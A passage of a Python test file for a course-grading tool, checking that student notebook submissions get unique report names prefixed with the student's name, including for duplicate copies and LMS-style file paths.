                        ["doejane", "12", "", "", "", "4", "4"],
                        ["Jane Roe", "", "", "", "", "4", "4"]]


def test_report_names_carry_the_student():
    """A student's second copy is named with the student (issue 22), LMS names keep theirs."""
    from dptlearn.course.grading.reportnames import carry_students
    paths = ["subs/alice/01_tokens_and_hooks.ipynb", "subs/alice/01_tokens_and_hooks (1).ipynb",
             "subs/bob/02_rearrange.ipynb", "subs/carol/02_rearrange.ipynb",
             "subs/doejane_12_345_01_tokens_and_hooks.ipynb",
             "subs/Jane Doe_9_assignsubmission_file_/03.ipynb"]
    results = [Result(p, n) for p, n in zip(paths, report_names(paths))]
    assert results[1].name == "01_tokens_and_hooks__1_"            # as report_names gives it
    assign_students(results, ["subs"])
    carry_students(results)
    assert [r.name for r in results] == [                      # only alice has two
        "alice__01_tokens_and_hooks", "alice__01_tokens_and_hooks__1_", "bob__02_rearrange",
        "carol__02_rearrange", "doejane_12_345_01_tokens_and_hooks", "03"]
    assert len({r.name.casefold() for r in results}) == len(results)
